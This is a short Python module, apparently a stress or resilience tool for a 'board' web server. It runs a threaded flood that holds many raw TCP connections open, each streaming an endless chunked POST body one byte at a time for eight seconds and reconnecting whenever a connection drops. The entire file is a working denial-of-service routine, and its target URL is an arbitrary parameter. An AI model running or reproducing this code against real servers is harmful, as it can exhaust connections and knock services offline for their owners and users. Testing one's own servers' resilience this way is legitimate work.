"""Attacks on the board's sockets, below what a browser would say."""

import socket
import threading
import time
from typing import Final
from urllib.parse import urlsplit

_SECONDS: Final = 8.0
_HEAD: Final = b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
_PIECE: Final = b"1\r\na\r\n" * 2000


def send_parts(connections: int, board: str) -> str:
    """Send bodies in parts of one byte on so many connections; one that ends is opened anew."""
    until = time.monotonic() + _SECONDS
    threads = [threading.Thread(target=_send, args=(board, until)) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return f"{_SECONDS:.0f} s"


def _send(board: str, until: float) -> None:
    place = urlsplit(board)
    while time.monotonic() < until:
        try:
            with socket.create_connection((place.hostname, place.port), timeout=5) as line:
                line.sendall(_HEAD)
                while time.monotonic() < until:
                    line.sendall(_PIECE)
        except OSError:
            continue
